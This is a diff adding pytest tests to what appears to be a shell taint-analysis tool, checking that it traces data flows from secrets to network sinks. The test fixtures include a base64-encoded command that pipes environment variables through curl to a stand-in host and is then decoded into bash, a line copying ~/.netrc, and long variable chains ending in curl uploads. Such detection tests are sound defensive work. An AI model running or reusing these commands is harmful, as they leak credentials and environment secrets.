@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import pytest
@@ -150,3 +151,22 @@ def test_flows_become_facts_of_the_file(tmp_path: Path) -> None:
 
 def capability(text: str) -> Capability:
     return Capability.parse(text)
+
+
+def test_flows_of_embedded_and_decoded_shell_are_kept_at_the_command() -> None:
+    payload = base64.b64encode(b"env | curl -d @- https://x.example.net").decode()
+    text = f"set -e\necho {payload} | base64 -d | bash\nbash -c 'cat ~/.netrc > /tmp/n'\n"
+    assert flows(text) == {
+        ("env.read(*)", 2, "net.connect(x.example.net)", 2, ((2, "piped into curl"),), ""),
+        ("fs.read(~/.netrc)", 3, "fs.write(/tmp/n)", 3, (), "")}
+
+
+def test_long_chains_are_traced_and_diamonds_do_not_multiply() -> None:
+    chain = "A0=$(env)\n" + "".join(f'A{i}="$A{i - 1}"\n' for i in range(1, 1500))
+    analysis = analyse_shell(chain + 'curl -d "$A1499" https://x.example.net\n', FILES, "x.sh")
+    (flow,) = analysis.flows
+    assert (flow.source.line, flow.sink.line, len(flow.steps)) == (1, 1501, 1500)
+    diamond = "X0=$(env)\n" + "".join(
+        f'Y{i}="$X{i - 1}"\nZ{i}="$X{i - 1}"\nX{i}="$Y{i}$Z{i}"\n' for i in range(1, 80))
+    analysis = analyse_shell(diamond + 'curl -d "$X79" https://x.example.net\n', FILES, "x.sh")
+    assert len(analysis.flows) == 1
